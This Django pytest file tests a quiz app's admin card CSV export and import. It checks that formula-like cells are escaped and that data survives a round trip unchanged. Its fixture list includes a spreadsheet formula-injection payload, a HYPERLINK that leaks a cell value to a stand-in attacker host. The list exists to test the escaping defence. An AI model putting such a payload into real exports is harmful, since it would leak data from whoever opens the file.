"""The admin's card CSV export never writes a cell a spreadsheet would run, and the import reads
its own escaped export back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from quizzes.content.models import Card, CardKind, Choice
from quizzes.core.spreadsheets import FORMULA_STARTS
from tests.factories import CardFactory, make_choice_card

pytestmark = pytest.mark.django_db

ARTICLE = Path(__file__).resolve().parents[2] / "content" / "bone-metastases.txt"

# What an attacker (or an unlucky author) types where a spreadsheet looks for formulas.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answer")',
    "+1",
    "@SUM(A1:A9)",
    "-2",
    "\tindented with a tab",
    "'=already quoted",
    "''+twice quoted",
    "=1+1",
]


def export_csv(client) -> str:
    response = client.post(reverse("admin:content_card_export"), {"format": "0", "resource": "0"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return response.content.decode("utf-8")


def import_csv(client, text: str):
    upload = SimpleUploadedFile("cards.csv", text.encode(), "text/csv")
    preview = client.post(
        reverse("admin:content_card_import"),
        {"import_file": upload, "format": "0", "resource": "0"},
    )
    assert preview.status_code == 200
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    form = preview.context["confirm_form"]
    done = client.post(reverse("admin:content_card_process_import"), form.initial)
    assert done.status_code == 302
    return result


@pytest.fixture
def formula_cards():
    cards = [
        CardFactory(key=f"formula-{number}", front=text, back=text, tags=text)
        for number, text in enumerate(FORMULAS)
    ]
    cards.append(
        make_choice_card(
            key="formula-choices",
            kind=CardKind.MCQ,
            correct=("=HYPERLINK(1)",),
            wrong=("+1", "-2", "@cmd"),
            explanation="-2 is the answer with a minus",
        )
    )
    return cards


def snapshot(*fields: str) -> list[tuple]:
    cards = list(
        Card.objects.order_by("key").values_list(
            "key", "front", "back", "explanation", "tags", "kind", *fields
        )
    )
    choices = list(
        Choice.objects.order_by("card__key", "position").values_list("text", "is_correct")
    )
    return [*cards, *choices]


def test_no_exported_cell_starts_like_a_formula(instructor_client, formula_cards):
    rows = list(csv.reader(io.StringIO(export_csv(instructor_client))))
    assert len(rows) == 1 + len(formula_cards)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    fronts = {row[rows[0].index("key")]: row[rows[0].index("front")] for row in rows[1:]}
    assert fronts["formula-0"] == "'" + FORMULAS[0]
    assert fronts["formula-5"] == "''=already quoted"


def test_the_import_reads_its_own_escaped_export_back_unchanged(instructor_client, formula_cards):
    before = snapshot("status")
    exported = export_csv(instructor_client)

    result = import_csv(instructor_client, exported)

    assert result.totals["skip"] == len(formula_cards)
    assert result.totals["update"] == result.totals["new"] == 0
    assert snapshot("status") == before


def test_an_escaped_export_restores_cards_edited_since(instructor_client, formula_cards):
    before = snapshot()
    exported = export_csv(instructor_client)
    Card.objects.update(front="Edited meanwhile", back="", tags="")
    Choice.objects.filter(text="+1").update(text="plus one")

    result = import_csv(instructor_client, exported)

    assert result.totals["update"] == len(formula_cards)
    # The wording is back as it was; the editorial workflow sends reworded cards to review.
    assert snapshot() == before


def test_the_whole_article_exports_and_imports_back_unchanged(instructor_client):
    """The real content: every card of the bone metastases article and its curated set (some with
    eight choices) comes back from its own export unchanged."""
    call_command("import_article", str(ARTICLE), stdout=io.StringIO())
    before = snapshot("status")
    choices_before = Choice.objects.count()

    result = import_csv(instructor_client, export_csv(instructor_client))

    assert result.totals["skip"] == Card.objects.count() > 100
    assert snapshot("status") == before
    assert Choice.objects.count() == choices_before


def test_a_card_with_more_choices_than_the_csv_holds_is_not_exported(instructor_client):
    card = make_choice_card(key="eleven", wrong=tuple(f"Wrong {n}" for n in range(10)))
    response = instructor_client.post(
        reverse("admin:content_card_export"), {"format": "0", "resource": "0"}, follow=True
    )
    assert response.status_code == 200
    assert "“eleven” has 11 choices; the CSV holds at most 10" in response.content.decode()
    assert card.choices.count() == 11
